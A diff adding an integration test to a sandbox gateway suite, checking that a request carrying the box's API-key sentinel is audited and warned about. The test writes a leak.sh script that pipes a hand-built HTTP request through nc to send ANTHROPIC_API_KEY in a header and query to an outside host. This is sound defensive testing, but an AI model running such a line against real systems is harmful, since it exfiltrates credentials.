@@ -251,6 +251,29 @@ describe("the one-shot box on a real Docker engine, through the real gateway", (
     expect(mine.every((x) => x.subject === "org/alice")).toBe(true)
   })
 
+  it("a request that leaves with the sentinel is audited by place, and worker run warns once", async () => {
+    const allow = (port: number) => `[[allow]]\nhosts = ["${outside.address}"]\nports = [${port}]\nscope = ["org/*"]\n`
+    d.writeOrg(`${allow(outside.port)}${allow(outside.httpPort)}`)
+    try {
+      // A plain-http request through the proxy, carrying the box's sentinel (its ANTHROPIC_API_KEY) in a header and the query.
+      const send = `(printf 'GET http://${outside.address}:${outside.httpPort}/x?k=%s HTTP/1.1\\r\\nHost: ${outside.address}\\r\\n` +
+        `Proxy-Authorization: Basic %s\\r\\nX-Other: %s\\r\\nConnection: close\\r\\n\\r\\n' "$ANTHROPIC_API_KEY" "$A" "$ANTHROPIC_API_KEY"; sleep 1) | nc -w 3 host.docker.internal "$P"`
+      const r = await d.roster(["worker", "run", "alice", script(d, "leak.sh", `${CONNECT}${send}\n${send}\n`)])
+      expect(r.code, r.stderr).toBe(0)
+      const runId = lastRun(d).record.run_id
+      const warnings = r.stderr.split("\n").filter((l) => l.startsWith("warning: a request to"))
+      expect(warnings).toHaveLength(1)
+      expect(warnings[0]).toContain("header:x-other, query")
+      expect(lastRun(d).record.warnings).toHaveLength(1)
+      const audited = fs.readdirSync(d.file("state", "audit")).flatMap((f) => fs.readFileSync(path.join(d.file("state", "audit"), f), "utf8").trim().split("\n"))
+        .map((l) => JSON.parse(l)).filter((x) => x.run_id === runId)
+      expect(audited.map((x) => x.sentinel_unsubstituted)).toEqual([["header:x-other", "query"], ["header:x-other", "query"]])
+      expect((await d.roster(["runs", "show", runId])).stdout).toContain("warning:   a request to")
+    } finally {
+      d.writeOrg(allow(outside.port))
+    }
+  })
+
   it("a request without the run's token from a box is refused with 407", async () => {
     const r = await d.roster(["worker", "run", "alice", script(d, "notoken.sh", [
       "P=${HTTP_PROXY##*:}",
